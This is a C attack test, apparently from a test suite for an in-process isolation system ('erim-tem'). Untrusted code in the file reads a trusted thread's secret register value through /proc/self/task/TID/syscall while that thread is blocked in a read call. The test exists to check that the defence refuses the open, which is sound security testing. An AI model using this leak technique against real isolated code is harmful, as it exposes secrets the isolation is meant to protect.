/* SPDX-License-Identifier: MIT */
/* atk_procsyscall.c: read the registers of trusted code.  A thread in the
 * trusted domain blocks in a system call (a gate's read); /proc/PID/syscall
 * of that thread shows its six argument registers, stack pointer and
 * program counter to any reader with ptrace access -- untrusted code of the
 * same process included.  The trusted thread passes a value only it knows
 * in a register; the attack reads it back through the file, by the task
 * path and relative to a /proc/self directory fd.  erim-tem refuses the
 * open by the file's identity. */
#include <fcntl.h>
#include <pthread.h>
#include <time.h>

#include "atk_common.h"

#define TRUSTED_ARG 0x5ec2e7UL

static int pfd[2];
static volatile pid_t trusted_tid;

static void *trusted_thread(void *arg)
{
	static char c;

	(void)arg;
	trusted_tid = (pid_t)syscall(SYS_gettid);
	atk_trusted();
	syscall(SYS_read, pfd[0], &c, TRUSTED_ARG);   /* blocks until the attack is done */
	atk_untrusted();
	return NULL;
}

/* 1 if the file at PATH (relative to DFD) shows the trusted value. */
static int shows_trusted_arg(int dfd, const char *path)
{
	char buf[512], want[32];
	int fd, i;
	ssize_t n;

	snprintf(want, sizeof want, "0x%lx ", TRUSTED_ARG);
	for (i = 0; i < 200; i++) {   /* until the thread is inside its read */
		struct timespec ms = { 0, 10000000 };

		if ((fd = openat(dfd, path, O_RDONLY)) < 0) {
			atk_say("open(%s): %s", path, strerror(errno));
			return 0;
		}
		n = read(fd, buf, sizeof buf - 1);
		close(fd);
		buf[n > 0 ? n : 0] = 0;
		if (strstr(buf, want)) {
			atk_say("%s: %.*s", path, (int)strcspn(buf, "\n"), buf);
			return 1;
		}
		nanosleep(&ms, NULL);
	}
	atk_say("%s: never showed the trusted value", path);
	return 0;
}

static enum atk_result atk_attack(void)
{
	pthread_t th;
	char path[96];
	int won = 0, dfd;

	if (pipe(pfd) != 0 || pthread_create(&th, NULL, trusted_thread, NULL) != 0)
		return ATK_ERROR;
	while (!trusted_tid)
		sched_yield();
	snprintf(path, sizeof path, "/proc/self/task/%d/syscall", (int)trusted_tid);
	won |= shows_trusted_arg(AT_FDCWD, path);
	if ((dfd = open("/proc/self/task", O_RDONLY | O_DIRECTORY)) >= 0) {
		snprintf(path, sizeof path, "%d/syscall", (int)trusted_tid);
		won |= shows_trusted_arg(dfd, path);
		close(dfd);
	}
	if (write(pfd[1], "x", 1) != 1)
		return ATK_ERROR;
	pthread_join(th, NULL);
	return won ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_procsyscall";
static int atk_needs_pku = 0;
